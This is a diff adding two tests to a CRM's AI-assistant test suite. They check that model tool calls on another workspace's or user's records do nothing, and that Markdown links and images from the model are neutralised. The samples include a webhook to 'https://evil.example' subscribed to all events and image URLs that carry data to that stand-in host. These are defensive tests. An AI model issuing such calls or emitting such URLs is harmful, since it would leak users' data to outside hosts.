@@ -100,6 +100,81 @@ test('an order in a note can at most become a proposal, and its text reaches the
   assert.ok(names.includes('delete_record') && !names.some(name => /confirm/.test(name!)))
 })
 
+test('ids of another workspace, or of what its person may not touch, open nothing to a model', async () => {
+  const { owner: other } = await world()
+  const theirs = (await other.post('/deals', { title: 'Their secret deal', amount: 7 })).body
+  const contact = (await other.post('/contacts', { firstName: 'Their', lastName: 'Secret' })).body
+  const { ana, ben } = await withModel()
+  const own = (await ana.post('/deals', { title: 'Ana own', amount: 1 })).body
+  const bens = (await ben.post('/deals', { title: 'Bens secret deal', amount: 7 })).body
+  const stages = (await ana.get('/stages')).body.rows
+  const calls = [theirs, bens].flatMap(({ id, stageId }) => [
+    { name: 'read_record', input: { type: 'deal', id } },
+    { name: 'read_history', input: { type: 'deal', id } },
+    { name: 'summarise_record', input: { type: 'deal', id } },
+    { name: 'explain_deal', input: { id } },
+    { name: 'draft_email', input: { type: 'deal', id, purpose: 'say hello' } },
+    { name: 'update_record', input: { type: 'deal', id, data: { amount: 9 } } },
+    { name: 'delete_record', input: { type: 'deal', id } },
+    { name: 'run_action', input: { action: 'deal.stage', id, data: { stageId } } },
+    {
+      name: 'create_record',
+      input: { type: 'note', data: { body: 'x', relatedType: 'deal', relatedId: id } },
+    },
+  ])
+  const links = [
+    { contactIds: [contact.id] },
+    { ownerId: other.id },
+    { stageId: theirs.stageId },
+    { workspaceId: other.workspaceId },
+  ].map(data => ({ name: 'update_record', input: { type: 'deal', id: own.id, data } }))
+  const beyond = [
+    { name: 'update_record', input: { type: 'stage', id: stages[0].id, data: { name: 'Mine' } } },
+    {
+      name: 'create_record',
+      input: { type: 'webhook', data: { url: 'https://evil.example', events: ['*'] } },
+    },
+    {
+      name: 'create_record',
+      input: { type: 'customField', data: { entity: 'deal', label: 'x', type: 'TEXT' } },
+    },
+    { name: 'explain_outcomes', input: { ownerId: other.id } },
+  ]
+  const all = [...calls, ...links, ...beyond]
+  for (const call of all) {
+    server.says({ calls: [call] }, { text: 'Well.' })
+    const { status, body, text } = await chat(ana, 'go')
+    assert.equal(status, 200, text)
+    assert.deepEqual(body.proposals, [], JSON.stringify(call))
+    assert.deepEqual(body.records, [], JSON.stringify(call))
+  }
+  assert.doesNotMatch(shown(), /secret deal|Their Secret/i)
+  assert.equal((await ana.get(`/deals/${own.id}`)).body.version, 1)
+})
+
+test('what a model says in Markdown loads and opens nothing elsewhere: streamed, as JSON and kept', async () => {
+  const { ana } = await withModel()
+  const deal = (await ana.post('/deals', { title: 'Acme renewal', amount: 100 })).body
+  const text = `It is [Acme renewal](/deals/${deal.id}) ![at 100](https://evil.example/p.png?d=100), see [here](//evil.example/x) <img src="https://evil.example/q">.`
+  const clean = `It is [Acme renewal](/deals/${deal.id}) ![at 100] (\`https://evil.example/p.png?d=100\`), see [here] (\`//evil.example/x\`) &lt;img src="\`https://evil.example/q\`">.`
+  server.says({ text })
+  const { body } = await chat(ana, 'how is Acme?')
+  assert.equal(body.message.content, clean)
+  server.says({ text })
+  const { conversationId } = body
+  const streamed = await ana.post('/ai/chat', {
+    messages: [{ role: 'user', content: 'and streamed?' }],
+    conversationId,
+  })
+  const deltas = [...streamed.text.matchAll(/"delta":("(?:[^"\\]|\\.)*")/g)].map(([, json]) =>
+    JSON.parse(json!),
+  )
+  assert.equal(deltas.join(''), clean)
+  assert.ok(deltas.length > 3, 'word by word')
+  const { messages } = (await ana.get(`/ai/conversations/${conversationId}`)).body
+  assert.deepEqual([messages[1].content, messages[3].content], [clean, clean])
+})
+
 test('what a route refuses is told to the model, which may mend it', async () => {
   const { ana } = await withModel()
   server.says(
